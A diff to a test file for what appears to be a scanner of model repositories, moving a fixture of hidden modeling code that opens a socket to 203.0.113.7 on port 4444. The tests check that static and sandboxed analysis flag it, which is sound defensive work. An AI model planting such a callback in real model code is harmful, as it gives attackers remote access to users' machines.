@@ -26,12 +26,13 @@ A = {"enc.w": torch.arange(12.0).reshape(3, 4), "enc.b": torch.ones(3)}
 B = {"dec.w": torch.arange(20.0).reshape(4, 5).t(), "dec.b": torch.zeros(5)}
 ONE, TWO = "pytorch_model-00001-of-00002.bin", "pytorch_model-00002-of-00002.bin"
 CODE = """
-import socket
 from nobodys_package import PreTrainedModel
 
 class Model(PreTrainedModel):
     pass
-
+"""
+ACTING = f"""{CODE}
+import socket
 peer = socket.socket()
 try:
     peer.connect(("203.0.113.7", 4444))
@@ -138,6 +139,8 @@ def test_a_shard_that_is_not_there_is_no_clean_model(tmp_path: Path) -> None:
 def test_its_code_runs_under_detonate_alone_and_shows_in_the_story(tmp_path: Path) -> None:
     root = repository(tmp_path / "repo")
     torch.save(A, root / "extra.bin")
+    (root / "modeling_x.py").write_text(ACTING)
+    assert evaluated(root, static=True, write=False).verdict == Verdict.SUSPICIOUS
     report = evaluated(root, policy="detonate", write=False)
     assert report.verdict == Verdict.MALICIOUS, text(report)
     (talk,) = report.dynamic.conversations
